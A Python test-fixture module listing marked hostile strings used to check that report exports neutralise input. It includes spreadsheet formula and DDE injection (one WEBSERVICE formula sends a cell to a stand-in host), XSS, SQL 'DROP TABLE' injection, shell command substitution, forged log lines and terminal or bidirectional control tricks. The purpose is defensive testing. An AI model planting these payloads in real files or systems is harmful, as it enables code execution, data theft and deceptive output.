"""Texts that somebody may put into a report in the hope that a program obeys them, and what gives one away.

Every text of the bank bears `MARK`, so that it is found in whatever an output makes of it.
"""

from __future__ import annotations

from collections.abc import Mapping

MARK = "ZQ7"
"""Stands in every hostile text, and in nothing else that a test writes."""
ESC, BEL, RIGHT_TO_LEFT = "\x1b", "\x07", "\u202e"

FORMULAS: Mapping[str, str] = {
    "sum": f"=SUM(1,2){MARK}",
    "link function": f'=HYPERLINK("http://{MARK}.test/","mở")',
    "dde": f"=cmd|'/C calc {MARK}'!A0",
    "web": f'=WEBSERVICE("http://{MARK}.test/"&A1)',
    "minus": f"-2+3{MARK}",
    "phone": f"+84 912 345 678 {MARK}",
    "at": f"@SUM(1+1)*{MARK}",
    "tab first": f"\t=1+1{MARK}",
    "return first": f"\r=1+1{MARK}",
    "line break first": f"\n=1+1{MARK}",
    "blank first": f"   =1+1{MARK}",
    "no-break blank first": f"\N{NO-BREAK SPACE}=1+1{MARK}",
    "wide blank first": f"\N{IDEOGRAPHIC SPACE}=1+1{MARK}",
    "zero width first": f"\N{ZERO WIDTH SPACE}=1+1{MARK}",
    "byte order mark first": f"\N{ZERO WIDTH NO-BREAK SPACE}=1+1{MARK}",
    "full-width": f"\N{FULLWIDTH EQUALS SIGN}1+1{MARK}",
    "full-width at": f"\N{FULLWIDTH COMMERCIAL AT}SUM(1){MARK}",
    "apostrophe first": f"'=1+1{MARK}",
    "two apostrophes first": f"''=1+1{MARK}",
    "behind a semicolon": f"Huyện uỷ;=1+1{MARK}",
    "behind a comma and quotes": f'Huyện uỷ",=1+1{MARK}&"',
    "on a second line": f"Huyện uỷ\n=1+1{MARK}",
    "behind a tab": f"Huyện uỷ\t@SUM(1){MARK}",
    "quotes": f'"=1+1{MARK}"',
    "end of a literal": f'","")+1,"{MARK}',
}
LINKS: Mapping[str, str] = {
    "http": f"http://{MARK}.test/a?b=c",
    "mail": f"mailto:{MARK}@x.test",
    "internal": f"internal:'{MARK}'!A1",
    "external": f"external:c:\\{MARK}.xlsx",
    "file": f"file:///etc/{MARK}",
    "share": f"\\\\may-chu\\{MARK}\\a.xlsx",
    "script": f"javascript:alert('{MARK}')",
    "www": f"www.{MARK}.test",
    "ftp": f"ftp://{MARK}.test/",
}
MARKUP: Mapping[str, str] = {
    "script": f"<script>alert('{MARK}')</script>",
    "attribute": f'"><img src=x onerror=alert("{MARK}")>',
    "end of script": f"</script><svg/onload=alert('{MARK}')>",
    "end of style": f"</style><b>{MARK}</b>",
    "comment": f"--><!--{MARK}",
    "cdata": f"]]><b>{MARK}</b>",
    "entity": f"&lt;b&gt;&#60;{MARK}&amp;",
    "template": f"{{{{7*7}}}}{{% raw %}}${{7*7}}#{{7*7}}{MARK}",
    "format": f"%s%(a)s{{0}}{{plan.id}}%n{MARK}",
    "rich": f"[red]đỏ[/red][link=http://{MARK}.test]x[/link]\\",
    "unbalanced rich": f"[/bold][{MARK}",
    "emoji by name": f":bomb::skull:{MARK}",
    "markdown": f"[a](http://{MARK}.test) ![b](http://{MARK}.test/b.png) **c** `d` | e | # f",
    "rich string": f'<r><t xml:space="preserve">{MARK}</t></r>',
    "escaped in Excel's way": f"_x003D_1+1_x000D__x0007_{MARK}",
    "footer codes": f"&A&G&P&L&Z{MARK}",
    "url codes": f"%0d%0aSet-Cookie:{MARK}%00%2e%2e%2f",
    "sql": f"'; DROP TABLE submissions; --{MARK}",
    "pipe": f"|cmd /c {MARK}",
    "shell": f"$(touch {MARK})`touch {MARK}`;&&",
}
CONTROLS: Mapping[str, str] = {
    "colour": f"{ESC}[31m{MARK}{ESC}[0m",
    "clear screen": f"{ESC}[2J{ESC}[H{MARK}",
    "title": f"{ESC}]0;{MARK}{BEL}",
    "link of a terminal": f"{ESC}]8;;http://{MARK}.test/{ESC}\\mở{ESC}]8;;{ESC}\\",
    "one-byte sequence": f"\x9b31m\x9d0;{MARK}\x9c",
    "forged line": f"x\r\n09/05/2022 22:00:00  {MARK}: ĐƯỢC CHẤP NHẬN",
    "overwritten line": f"x\rĐƯỢC CHẤP NHẬN {MARK}\x08\x08\x7f",
    "other line ends": f"a\x0b{MARK}\x0cb\x85c\u2028d\u2029e",
    "right to left": f"{RIGHT_TO_LEFT}xslx.{MARK}\u202c",
    "isolates": f"\u2066{MARK}\u2069\u200f\u061c",
    "zero width": f"a\u200bb\u200cc\u2060d{MARK}\ufeff\u00ad",
    "tags": f"{MARK}\U000e0041\U000e007f",
    "nul": f"a\x00{MARK}",
    "bells": f"{BEL}\x01\x02\x1f{MARK}",
    "no characters": f"\ufdd0\U0010ffff{MARK}",
}
TEXTS: Mapping[str, str] = {
    **{f"formula: {name}": text for name, text in FORMULAS.items()},
    **{f"link: {name}": text for name, text in LINKS.items()},
    **{f"markup: {name}": text for name, text in MARKUP.items()},
    **{f"control: {name}": text for name, text in CONTROLS.items()},
    "length": MARK + "dài " * 8_000,
}
"""By kind and name. None of them is half a letter: a file cannot bring that, see `HALF`."""
HALF = f"\ud800{MARK}"
"""Half a letter: only a file name may bring one, as Python names bytes that are no UTF-8."""

HARMLESS = (
    "Đảng uỷ Khối các cơ quan",
    "Huyện uỷ Dương Minh Châu – thị trấn",
    "Nguyễn Thị Ươm, đ/c Phó Bí thư; ưƠ Đđ ỡ ữ ặ Ỵ",
    "Bưu điện (xã Tân Hoà)",
    "Đạt 98,5 %",
)
"""Vietnamese words as reports have them: no output changes a letter of them."""
